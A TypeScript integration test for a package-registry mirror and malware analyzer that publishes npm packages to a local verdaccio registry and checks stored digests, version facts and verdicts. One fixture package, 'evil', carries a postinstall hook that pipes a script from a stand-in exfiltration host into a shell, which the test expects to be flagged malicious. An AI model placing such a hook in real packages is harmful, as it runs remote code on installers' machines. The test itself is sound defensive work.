import { join } from 'node:path';
import type { FileFetcher } from '@weir/model';
import { createFileFetcher, createRequests, unlimitedAllowance } from '@weir/registries';
import { systemClock } from '@weir/runtime';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { openPair, type Pair } from './lib/pair.ts';

const { signal } = new AbortController();
const versionSchema = z.object({
  dist: z.object({ tarball: z.string(), shasum: z.string(), integrity: z.string() }),
});
const documentSchema = z.object({ _rev: z.string(), versions: z.record(z.string(), versionSchema) });

let postgres: TestPostgres;

beforeAll(async () => {
  postgres = await startTestPostgres();
});
afterAll(() => postgres[Symbol.asyncDispose]());

/** The analyzer's own fetcher, into a folder of the test. */
function fetcherOf({ verdaccio, weir }: Pair): FileFetcher {
  const { http, settings } = weir.platform;
  const requests = createRequests({
    http,
    clock: systemClock,
    random: () => 0,
    allowance: unlimitedAllowance,
  });
  const spoolDir = join(settings.spoolDir, 'of-the-test');
  return createFileFetcher({ requests, clock: systemClock, spoolDir, allowedOrigins: [verdaccio.origin] });
}

describe('publishing with the npm client to a registry that is not ours', () => {
  it('records each version with what the registry declares of it, and judges its bytes', async () => {
    await using pair = await openPair(postgres);
    const { weir, mirror, npm, verdaccio } = pair;
    await npm.publish('left', '1.0.0', { description: 'a', scripts: { postinstall: 'node index.js' } });
    await mirror.tell('left');
    await weir.expectTold(['published left@1.0.0']);
    await npm.publish('left', '1.1.0');
    await npm.publish('left', '1.0.1', {}, '--tag', 'old');
    await mirror.tell('left');
    await npm.publish('@acme/core', '1.0.0');
    await npm.publish('@acme/core', '2.0.0-beta.1', {}, '--tag', 'next');
    await mirror.tell('@acme/core');
    await npm.publish('evil', '1.0.0', {
      scripts: { postinstall: 'curl -s https://exfil.weir.test/x.sh | sh' },
    });
    await mirror.tell('evil');

    const releases = [
      ['left', '1.0.0'],
      ['left', '1.1.0'],
      ['left', '1.0.1'],
      ['@acme/core', '1.0.0'],
      ['@acme/core', '2.0.0-beta.1'],
      ['evil', '1.0.0'],
    ] as const;
    await weir.expectTold(releases.map(([name, version]) => `published ${name}@${version}`));
    expect(await weir.verdicts()).toEqual([
      'pkg:npm/%40acme/core@1.0.0: benign',
      'pkg:npm/%40acme/core@2.0.0-beta.1: benign',
      'pkg:npm/evil@1.0.0: malicious',
      'pkg:npm/left@1.0.0: benign',
      'pkg:npm/left@1.0.1: benign',
      'pkg:npm/left@1.1.0: benign',
    ]);
    const fetcher = fetcherOf(pair);
    for (const [name, version] of releases) {
      const document = documentSchema.parse(await verdaccio.readDocument(name));
      const dist = document.versions[version]?.dist;
      const sha512 = Buffer.from(dist?.integrity.replace(/^sha512-/, '') ?? '', 'base64').toString('hex');
      const [stored, ...more] = await weir.platform.store.releases.findFilesByRelease('npmjs', name, version);
      expect(more).toEqual([]);
      expect(stored).toMatchObject({
        state: 'fetched',
        file: { digests: { sha1: dist?.shasum, sha512 }, locator: { url: dist?.tarball } },
      });

      const outcome = await fetcher.fetch({ url: dist?.tarball ?? '' }, signal);
      if (outcome.kind !== 'fetched') throw new Error(`${name}@${version}: ${outcome.kind}`);
      await using file = outcome.file;
      expect(file.digests).toMatchObject({ sha1: dist?.shasum, sha512, sha256: stored?.artifactSha256 });
    }
    expect(await weir.platform.store.stats()).toMatchObject({ gaps: 0, parked: 0 });
  });

  it('reads the facts of a version from its document', async () => {
    await using pair = await openPair(postgres);
    const { weir, mirror, npm } = pair;
    await npm.publish('left', '1.0.0', { description: 'a', scripts: { postinstall: 'node index.js' } });
    const first = await mirror.tell('left');
    await weir.expectTold(['published left@1.0.0']);
    await npm.publish('left', '1.1.0');
    const second = await mirror.tell('left');
    await weir.expectTold(['published left@1.0.0', 'published left@1.1.0']);

    const { releases } = weir.platform.store;
    const [[old], [young]] = await Promise.all([
      releases.findFilesByRelease('npmjs', 'left', '1.0.0'),
      releases.findFilesByRelease('npmjs', 'left', '1.1.0'),
    ]);
    expect(old?.facts).toMatchObject({
      manifest: { description: 'a', scripts: { postinstall: 'node index.js' } },
      documentRevision: first,
      distTags: ['latest'],
      previousVersion: null,
      versionCount: 1,
      // What npm writes into a version that it takes, and verdaccio does not.
      publisher: null,
      maintainers: [],
      provenance: null,
    });
    expect(young?.facts).toMatchObject({
      documentRevision: second,
      previousVersion: '1.0.0',
      versionCount: 2,
    });
    for (const facts of [old?.facts, young?.facts]) {
      expect(Date.parse(facts?.publishedAt ?? '')).toBeGreaterThan(Date.parse('2026-01-01'));
      expect(await weir.platform.evidence.has(facts?.documentSha256 ?? '')).toBe(true);
    }
    // Three steps a publish: the number orders, and counts nothing.
    expect([first, second].map((revision) => Number.parseInt(revision ?? '', 10))).toEqual([3, 6]);
  });

  it('tells nothing for a deprecation and a moved tag, and reads both', async () => {
    await using pair = await openPair(postgres);
    const { weir, mirror, npm } = pair;
    for (const version of ['1.0.0', '1.1.0']) await npm.publish('left', version);
    await mirror.tell('left');
    const published = ['published left@1.0.0', 'published left@1.1.0'];
    await weir.expectTold(published);

    await npm.run('deprecate', 'left@1.0.0', 'use another');
    await mirror.tell('left');
    await npm.run('dist-tag', 'add', 'left@1.0.0', 'stable');
    const revision = await mirror.tell('left');

    await weir.expectTold(published);
    expect(await weir.platform.store.feeds.receipt('npmjs', 'left')).toMatchObject({
      seenRevision: revision,
      fetchedRevision: revision,
      deleted: false,
    });
  });
});
